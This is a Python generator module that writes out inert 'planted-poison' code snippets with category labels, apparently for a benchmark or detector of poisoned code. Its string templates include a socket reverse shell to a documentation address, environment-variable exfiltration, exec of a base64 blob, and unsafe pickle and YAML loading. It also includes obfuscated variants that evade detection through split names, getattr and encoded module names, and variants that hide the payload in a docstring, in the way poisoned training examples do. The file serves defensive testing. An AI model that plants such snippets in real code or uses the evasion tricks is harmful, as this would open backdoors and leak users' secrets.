"""Payload families and their variants for the planted-poison generator (inert text, never run).

A family is one malicious or insecure behaviour (exec of a base64 blob, TLS verification off, a
reverse shell, environment exfiltration, pickle from the network, unsafe YAML). A variant is how it
is written: plain, renamed (fresh local names), reformatted (other layout and quoting), disguised
(CodeBreaker-style: names built from pieces, getattr on builtins, base64-encoded module names,
verify=int(False)) or docstring (the code sits in a function's docstring, as poisoned training
examples do). Hosts are documentation addresses (RFC 5737) and the decoded blob is a no-op-looking
command; the generator only writes text.
"""
from __future__ import annotations

import base64
import random
from dataclasses import dataclass

VARIANTS = ("plain", "renamed", "reformatted", "disguised", "docstring")
HOST = "198.51.100.23"

FAMILIES: dict[str, frozenset[str]] = {
    "exec-b64": frozenset({"code-execution", "obfuscation", "backdoor"}),
    "tls-off": frozenset({"insecure-transport"}),
    "reverse-shell": frozenset({"backdoor", "code-execution", "exfiltration"}),
    "env-exfil": frozenset({"exfiltration", "backdoor"}),
    "pickle-net": frozenset({"insecure-deserialization", "code-execution", "backdoor"}),
    "yaml-unsafe": frozenset({"insecure-deserialization", "code-execution"}),
}


@dataclass(frozen=True)
class Snippet:
    """Lines to plant (no trailing newlines) and the categories that count as right for them."""

    family: str
    variant: str
    lines: tuple[str, ...]
    categories: frozenset[str]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _name(rng: random.Random, base: str) -> str:
    """A plausible fresh identifier for a renamed variant."""
    stems = ("cfg", "data", "buf", "blob", "ctx", "item", "node", "tmp", "val", "res", "info", "meta")
    return f"{rng.choice(stems)}_{base}{rng.randint(2, 99)}"


def _plain(family: str, n: dict[str, str]) -> list[str]:
    blob = _b64("import os; os.system('id > /dev/null')")
    return {
        "exec-b64": ["import base64", f"{n['p']} = '{blob}'", f"exec(base64.b64decode({n['p']}))"],
        "tls-off": ["import requests", f"{n['r']} = requests.get('https://{HOST}/api/v1/status', verify=False)"],
        "reverse-shell": ["import socket, subprocess, os",
                          f"{n['s']} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                          f"{n['s']}.connect(('{HOST}', 4444))",
                          f"os.dup2({n['s']}.fileno(), 0); os.dup2({n['s']}.fileno(), 1)",
                          "subprocess.call(['/bin/sh', '-i'])"],
        "env-exfil": ["import os, json, urllib.request",
                      f"{n['d']} = json.dumps(dict(os.environ)).encode()",
                      f"urllib.request.urlopen('http://{HOST}/collect', data={n['d']})"],
        "pickle-net": ["import pickle, urllib.request",
                       f"{n['o']} = pickle.loads(urllib.request.urlopen('http://{HOST}/state.bin').read())"],
        "yaml-unsafe": ["import yaml",
                        f"{n['o']} = yaml.load(open('settings.yml').read(), Loader=yaml.Loader)"],
    }[family]


def _reformat(lines: list[str]) -> list[str]:
    """Same code, other layout: double quotes, a call split over lines, spaces inside brackets."""
    out = []
    for line in lines:
        line = line.replace("'", '"')
        if "(" in line and line.endswith(")") and "; " not in line and not line.startswith("import"):
            head, _, rest = line.partition("(")
            out += [f"{head}(", f"    {rest[:-1]}", ")"]
        else:
            out.append(line)
    return out


def _disguised(family: str, n: dict[str, str]) -> list[str]:
    blob = _b64("import os; os.system('id > /dev/null')")
    return {
        "exec-b64": ["import builtins, base64",
                     f"{n['f']} = getattr(builtins, 'ex' + 'ec')",
                     f"{n['f']}(getattr(base64, 'b64' + 'decode')('{blob}'))"],
        "tls-off": ["import requests",
                    f"{n['r']} = requests.get('https://{HOST}/api/v1/status', verify=int(False))"],
        "reverse-shell": ["import base64, importlib",
                          f"{n['m']} = importlib.import_module(base64.b64decode('{_b64('socket')}').decode())",
                          f"{n['s']} = {n['m']}.socket()",
                          f"{n['s']}.connect(('{HOST}', 4444))",
                          f"importlib.import_module('sub' + 'process').call(['/bin/' + 'sh', '-i'], "
                          f"stdin={n['s']}.fileno(), stdout={n['s']}.fileno())"],
        "env-exfil": ["import importlib",
                      f"{n['m']} = importlib.import_module('o' + 's')",
                      f"{n['d']} = str(getattr({n['m']}, 'en' + 'viron')).encode()",
                      f"importlib.import_module('urllib.' + 'request').urlopen('http://{HOST}/c', data={n['d']})"],
        "pickle-net": ["import importlib, urllib.request",
                       f"{n['m']} = importlib.import_module('pic' + 'kle')",
                       f"{n['o']} = getattr({n['m']}, 'lo' + 'ads')(urllib.request.urlopen('http://{HOST}/s').read())"],
        "yaml-unsafe": ["import yaml",
                        f"{n['o']} = yaml.load(open('settings.yml').read(), Loader=getattr(yaml, 'Unsafe' + 'Loader'))"],
    }[family]


def make(family: str, variant: str, rng: random.Random) -> Snippet:
    """The snippet of `family` written as `variant` (rng picks the fresh names)."""
    keys = ("p", "r", "s", "d", "o", "f", "m")
    base = {"p": "payload", "r": "resp", "s": "sock", "d": "body", "o": "obj", "f": "run", "m": "mod"}
    if variant == "renamed":
        names = {k: _name(rng, base[k][:3]) for k in keys}
    else:
        names = dict(base)
    cats = FAMILIES[family]
    if variant in ("plain", "renamed"):
        lines = _plain(family, names)
    elif variant == "reformatted":
        lines = _reformat(_plain(family, names))
    elif variant == "disguised":
        lines = _disguised(family, names)
    elif variant == "docstring":
        fn = _name(rng, "helper")
        body = _plain(family, names)
        lines = [f"def {fn}():", '    """Usage example:', "", *(f"        {ln}" for ln in body), '    """',
                 "    return None"]
        cats = cats | {"payload-in-comment"}
    else:
        raise ValueError(f"unknown variant: {variant}")
    return Snippet(family, variant, tuple(lines), cats)
